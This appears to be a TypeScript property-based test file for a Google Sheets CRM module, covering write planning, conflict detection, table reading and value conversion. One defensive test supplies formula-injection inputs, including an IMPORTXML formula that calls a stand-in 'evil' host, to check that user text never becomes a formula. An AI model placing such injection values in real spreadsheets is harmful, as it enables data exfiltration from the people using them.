import fc from 'fast-check';
import type { sheets_v4 } from '@googleapis/sheets';
import { InputError } from '../../../nodes/shared/errors';
import {
	planCellWrites,
	readTables,
	toAppendRows,
	toSheetValue,
	toSnapshot,
	type CellChange,
	type CellValue,
} from '../../../nodes/shared/sheets/crm';
import type { SheetsTransport } from '../../../nodes/shared/sheets/transport';
import { parseRange } from '../../servers/sheetsA1';
import { toStored } from '../../servers/sheetsServer';

// ---------------------------------------------------------------- independent references

/** The reference's own notion of "same value": blanks alike, numbers alike whether typed or text. */
function canonical(v: unknown): string {
	if (v === null || v === undefined || v === '') return '';
	if (typeof v === 'number') return `n:${v}`;
	if (typeof v === 'string' && v.trim() !== '' && !Number.isNaN(Number(v))) return `n:${Number(v)}`;
	return `${typeof v}:${String(v)}`;
}

interface Outcome {
	grid: CellValue[][];
	applied: number[];
	conflicts: number[];
	notFound: number[];
	/** "row,col" of every cell some applied change set. */
	setCells: Set<string>;
}

/** Brute force: apply the changes one by one to a copy of the grid, scanning rows for the key. */
function bruteForce(grid: CellValue[][], headers: string[], keyField: string, changes: CellChange[]): Outcome {
	const copy = grid.map((row) => [...row]);
	const keyCol = headers.indexOf(keyField);
	const out: Outcome = { grid: copy, applied: [], conflicts: [], notFound: [], setCells: new Set() };
	changes.forEach((change, i) => {
		let r = -1;
		for (let k = 1; k < copy.length; k++) if (String(copy[k][keyCol] ?? '').trim() === change.key.trim() && change.key.trim() !== '') r = k;
		if (r === -1) {
			out.notFound.push(i);
			return;
		}
		const ok = Object.entries(change.expected ?? {}).every(([f, v]) => canonical(copy[r][headers.indexOf(f)]) === canonical(v));
		if (!ok) {
			out.conflicts.push(i);
			return;
		}
		for (const [f, v] of Object.entries(change.set)) {
			copy[r][headers.indexOf(f)] = v;
			out.setCells.add(`${r},${headers.indexOf(f)}`);
		}
		out.applied.push(i);
	});
	return out;
}

/** Applies a plan's ValueRanges to a grid, locating cells with the local server's A1 parser. */
function applyPlan(grid: CellValue[][], data: sheets_v4.Schema$ValueRange[], written: Set<string>): CellValue[][] {
	const copy = grid.map((row) => [...row]);
	for (const vr of data) {
		const range = parseRange(vr.range ?? '');
		(vr.values ?? []).forEach((row, i) =>
			(row as CellValue[]).forEach((value, j) => {
				const r = (range.startRow ?? 0) + i;
				const c = (range.startCol ?? 0) + j;
				copy[r][c] = value;
				written.add(`${r},${c}`);
			}),
		);
	}
	return copy;
}

// ---------------------------------------------------------------- generators

const VALUES: CellValue[] = ['', 'a', 'b', 'New', 'MQL', 0, 1, 2, '1', '2', true, false];
const value = fc.constantFrom(...VALUES);

const scenario = fc
	.record({ columns: fc.integer({ min: 2, max: 6 }), rows: fc.integer({ min: 0, max: 12 }), keyColumn: fc.nat(5) })
	.chain(({ columns, rows, keyColumn }) => {
		const headers = Array.from({ length: columns }, (_, c) => `f${c}`);
		const keyField = headers[keyColumn % columns];
		const body = fc.array(fc.array(value, { minLength: columns, maxLength: columns }), { minLength: rows, maxLength: rows });
		const keys = Array.from({ length: rows }, (_, r) => `k${r}`);
		const change: fc.Arbitrary<CellChange> = fc.record({
			tab: fc.constant('Leads'),
			key: fc.constantFrom(...keys, 'missing', ' k0 '),
			set: fc.dictionary(fc.constantFrom(...headers.filter((h) => h !== keyField)), value, { maxKeys: 3 }),
			expected: fc.option(fc.dictionary(fc.constantFrom(...headers), value, { maxKeys: 2 }), { nil: undefined }),
		});
		return fc.record({
			headers: fc.constant(headers),
			keyField: fc.constant(keyField),
			body: body.map((rowsData) => rowsData.map((row, r) => row.map((v, c) => (c === headers.indexOf(keyField) ? keys[r] : v)))),
			changes: fc.array(change, { maxLength: 15 }),
			edits: fc.array(fc.record({ row: fc.nat(20), column: fc.nat(6), value }), { maxLength: 6 }),
		});
	});

describe('planCellWrites', () => {
	test('applying the plan to a copy equals applying the changes one by one (brute force)', () => {
		fc.assert(
			fc.property(scenario, ({ headers, keyField, body, changes }) => {
				const grid: CellValue[][] = [headers, ...body];
				const snapshot = toSnapshot({ tab: 'Leads', keyField }, grid);
				const plan = planCellWrites([snapshot], changes);
				const reference = bruteForce(grid, headers, keyField, changes);
				const written = new Set<string>();
				const result = applyPlan(grid, plan.data, written);
				expect(result.map((row) => row.map(canonical))).toEqual(reference.grid.map((row) => row.map(canonical)));
				expect(plan.applied.map((c) => changes.indexOf(c))).toEqual(reference.applied);
				expect(plan.conflicts.map((c) => changes.indexOf(c.change))).toEqual(reference.conflicts);
				expect(plan.notFound.map((c) => changes.indexOf(c))).toEqual(reference.notFound);
				// Only cells that some applied change set are written, and each only if its value changes.
				for (const cell of written) {
					expect(reference.setCells.has(cell)).toBe(true);
					const [r, c] = cell.split(',').map(Number);
					expect(canonical(grid[r][c])).not.toBe(canonical(result[r][c]));
				}
			}),
			{ numRuns: 400 },
		);
	});

	test('a concurrent edit to any cell the plan does not change is never overwritten', () => {
		fc.assert(
			fc.property(scenario, ({ headers, keyField, body, changes, edits }) => {
				const grid: CellValue[][] = [headers, ...body];
				const plan = planCellWrites([toSnapshot({ tab: 'Leads', keyField }, grid)], changes);
				const reference = bruteForce(grid, headers, keyField, changes);
				// A person edits cells after the read, before the write.
				const edited = grid.map((row) => [...row]);
				const editedCells = new Set<string>();
				for (const e of edits) {
					const r = 1 + (e.row % Math.max(1, body.length));
					if (r >= edited.length) continue;
					const c = e.column % headers.length;
					edited[r][c] = `human-${String(e.value)}`;
					editedCells.add(`${r},${c}`);
				}
				const written = new Set<string>();
				const after = applyPlan(edited, plan.data, written);
				for (const cell of editedCells) {
					const [r, c] = cell.split(',').map(Number);
					if (!reference.setCells.has(cell)) expect(after[r][c]).toBe(edited[r][c]);
				}
			}),
			{ numRuns: 300 },
		);
	});

	test('adjacent changed cells of a row become one range; tabs are quoted', () => {
		const snapshot = toSnapshot({ tab: 'Q1 Leads', keyField: 'email' }, [
			['email', 'stage', 'score', 'owner'],
			['a@x.com', 'New', 10, 'me'],
		]);
		const plan = planCellWrites([snapshot], [{ tab: 'Q1 Leads', key: 'a@x.com', set: { stage: 'MQL', score: 80 } }]);
		expect(plan.data).toEqual([{ range: "'Q1 Leads'!B2:C2", majorDimension: 'ROWS', values: [['MQL', 80]] }]);
	});

	test('unknown fields and unread tabs are errors naming the tab and field', () => {
		const snapshot = toSnapshot({ tab: 'Leads', keyField: 'email' }, [['email', 'stage'], ['a', 'New']]);
		expect(() => planCellWrites([snapshot], [{ tab: 'Leads', key: 'a', set: { nope: 1 }, ref: 3 }])).toThrow(
			expect.objectContaining({ name: 'InputError', row: 3, field: 'nope', message: expect.stringContaining('"nope" is not a column of tab "Leads"') }),
		);
		expect(() => planCellWrites([snapshot], [{ tab: 'Deals', key: 'a', set: {} }])).toThrow(/Tab "Deals" was not read/);
	});
});

describe('toSnapshot / readTables', () => {
	test('records by key, row numbers from the sheet, blank rows skipped, blank keys kept out of byKey', () => {
		const s = toSnapshot({ tab: 'Leads', keyField: 'email', headerRow: 2 }, [
			['Title row'],
			['email', ' name ', 'score'],
			['a@x.com', 'Ann', 10],
			[],
			['', 'No key'],
			[1042, 'Numeric key'],
		]);
		expect(s.headers).toEqual(['email', 'name', 'score']);
		expect(s.rows.map((r) => [r.rowNumber, r.key])).toEqual([[3, 'a@x.com'], [5, ''], [6, '1042']]);
		expect(s.byKey.get('a@x.com')).toEqual({ rowNumber: 3, record: { email: 'a@x.com', name: 'Ann', score: 10 } });
		expect(s.byKey.get('1042')?.rowNumber).toBe(6);
		expect(s.byKey.has('')).toBe(false);
	});

	test.each([
		[[['email', '', 'stage']], /Tab "Leads" has a blank header in column B \(row 1\)/],
		[[['email', 'stage', 'email']], /header "email" twice, in columns A and C \(row 1\)/],
		[[['name', 'stage']], /Tab "Leads" has no key column "email" in its header row 1 \(columns: name, stage\)/],
		[[], /Tab "Leads" has no header row: row 1 is empty/],
		[[['email'], ['a'], ['b'], ['a']], /duplicate keys in column "email" \(A\): "a" at rows 2 and 4/],
	])('bad sheet %# → InputError naming tab, row and column', (grid, message) => {
		expect(() => toSnapshot({ tab: 'Leads', keyField: 'email' }, grid as CellValue[][])).toThrow(message);
		expect(() => toSnapshot({ tab: 'Leads', keyField: 'email' }, grid as CellValue[][])).toThrow(InputError);
	});

	function fakeTransport(batchGet: SheetsTransport['batchGet']): SheetsTransport & { calls: string[][] } {
		const calls: string[][] = [];
		return {
			calls,
			batchGet: async (id, ranges) => {
				calls.push(ranges);
				return batchGet(id, ranges);
			},
			batchUpdate: async () => ({}),
			append: async () => ({}),
			getSpreadsheet: async () => ({}),
			addSheets: async () => undefined,
			apiCalls: 0,
			retries: 0,
		};
	}

	test('one batchGet for all tabs, quoted', async () => {
		const transport = fakeTransport(async () => ({
			valueRanges: [{ values: [['email'], ['a']] }, { values: [['time', 'key']] }],
		}));
		const [leads, history] = await readTables(transport, 'id', [
			{ tab: 'Q1 Leads', keyField: 'email' },
			{ tab: 'StageHistory', keyField: 'key' },
		]);
		expect(transport.calls).toEqual([["'Q1 Leads'", "'StageHistory'"]]);
		expect(leads.byKey.has('a')).toBe(true);
		expect(history.rows).toEqual([]);
	});

	test('a missing tab (Google 400 "Unable to parse range") becomes an error naming the tab', async () => {
		const transport = fakeTransport(async () => {
			throw Object.assign(new Error("Google Sheets API error (400 INVALID_ARGUMENT): Unable to parse range: 'Deals'"), {});
		});
		await expect(readTables(transport, 'id', [{ tab: 'Leads', keyField: 'email' }, { tab: 'Deals', keyField: 'id' }])).rejects.toThrow(
			'Tab "Deals" not found in the spreadsheet',
		);
		const other = fakeTransport(async () => {
			throw new Error('Google Sheets API error (403 PERMISSION_DENIED)');
		});
		await expect(readTables(other, 'id', [{ tab: 'Leads', keyField: 'email' }])).rejects.toThrow(/403/);
	});

	test('toAppendRows orders fields by column and refuses unknown fields', () => {
		const s = toSnapshot({ tab: 'Leads', keyField: 'email' }, [['email', 'name', 'stage']]);
		expect(toAppendRows(s, [{ record: { stage: 'New', email: 'a' } }])).toEqual([['a', '', 'New']]);
		expect(() => toAppendRows(s, [{ record: { phone: '1' }, ref: 2 }])).toThrow(expect.objectContaining({ row: 2, field: 'phone' }));
	});
});

describe('toSheetValue', () => {
	test('RAW keeps text exactly; USER_ENTERED text never becomes a formula and reads back unchanged (as Sheets parses it)', () => {
		fc.assert(
			fc.property(
				fc.oneof(
					fc.string(),
					fc.constantFrom('=IMPORTXML("http://evil","//a")', '+1 555 0100', '-2+3', '@SUM(A1)', '\t=1', '\r=1', "'quoted", "''", '=1+1'),
					fc.string().map((s) => `=${s}`),
				),
				(text) => {
					expect(toSheetValue(text, 'RAW')).toBe(text);
					const sent = toSheetValue(text, 'USER_ENTERED');
					const stored = toStored(sent, 'USER_ENTERED');
					expect(stored?.formula).toBeUndefined();
					if (/^[=+\-@\t\r']/.test(text) && !/^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$/.test(text.trim())) {
						expect(stored?.value).toBe(text);
					}
				},
			),
			{ numRuns: 1000 },
		);
	});

	test('numbers stay numbers, plain negative numbers are not quoted, empties clear, non-finite is an error', () => {
		expect(toSheetValue(-5, 'USER_ENTERED')).toBe(-5);
		expect(toSheetValue('-5', 'USER_ENTERED')).toBe('-5');
		expect(toSheetValue(true, 'RAW')).toBe(true);
		expect(toSheetValue(null, 'RAW')).toBe('');
		expect(toSheetValue(undefined, 'USER_ENTERED')).toBe('');
		expect(toSheetValue(new Date('2024-01-05T00:00:00Z'), 'RAW')).toBe('2024-01-05T00:00:00.000Z');
		expect(toSheetValue({ a: 1 }, 'RAW')).toBe('{"a":1}');
		expect(() => toSheetValue(Number.NaN, 'RAW', { row: 4, field: 'score' })).toThrow(
			expect.objectContaining({ row: 4, field: 'score', message: 'Item 4: field "score" is NaN, which a cell cannot hold' }),
		);
		expect(() => toSheetValue(Infinity, 'RAW')).toThrow(InputError);
	});
});
